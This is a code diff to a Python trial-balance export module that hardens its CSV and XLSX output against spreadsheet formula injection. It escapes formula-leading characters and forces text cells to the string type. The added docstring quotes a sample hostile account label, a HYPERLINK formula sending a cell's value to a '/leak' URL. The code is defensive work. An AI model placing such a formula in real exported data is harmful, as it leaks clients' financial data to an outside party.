@@ -3,6 +3,12 @@
 The CSV carries every amount exactly as the ledger holds it (Decimal to text, never through a float):
 two decimals, or up to four when the package sent sub-cent amounts. It starts with a UTF-8 byte order
 mark so Excel opens accented account names right.
+
+Account numbers and names come from the client's own WoW company, so they are hostile input: a label
+``=HYPERLINK("https://…/leak?"&A3,"Omzet")`` must reach the accountant as text, never as a formula. CSV text
+cells that a spreadsheet would read as a formula (starting with ``= + - @``, a tab or a carriage return)
+get a leading apostrophe (OWASP's advice; Excel and LibreOffice show the rest as text), and every text cell
+of the workbook is written with the string type, whatever it starts with.
 """
 
 from __future__ import annotations
@@ -24,6 +30,12 @@ CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 XLSX_AMOUNT_FORMAT = "#,##0.00;-#,##0.00"
 CENT = Decimal("0.01")
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(value: str) -> str:
+    """A text cell as a spreadsheet will read it as text: formula-looking values get a leading apostrophe."""
+    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
 
 
 def exact_amount(value: Decimal) -> str:
@@ -62,7 +74,7 @@ def trial_balance_csv(trial_balance: TrialBalance) -> bytes:
     writer = csv.writer(buffer, lineterminator="\r\n")
     writer.writerow(HEADER)
     for row in _rows(trial_balance):
-        writer.writerow([exact_amount(cell) if isinstance(cell, Decimal) else cell for cell in row])
+        writer.writerow([exact_amount(cell) if isinstance(cell, Decimal) else csv_text(cell) for cell in row])
     return buffer.getvalue().encode("utf-8-sig")
 
 
@@ -93,6 +105,11 @@ def trial_balance_xlsx(trial_balance: TrialBalance, *, client_file: ClientFile) 
     # Account numbers are text: "0100" must keep its zero and never turn into a number.
     for (cell,) in sheet.iter_rows(min_row=header_row + 1, max_col=1):
         cell.number_format = "@"
+    # openpyxl stores a string starting with "=" as a formula: every text cell is typed as a string instead.
+    for row in sheet.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
     sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
     for column, width in zip(range(1, 7), [14, 42, 16, 16, 16, 16], strict=True):
         sheet.column_dimensions[get_column_letter(column)].width = width
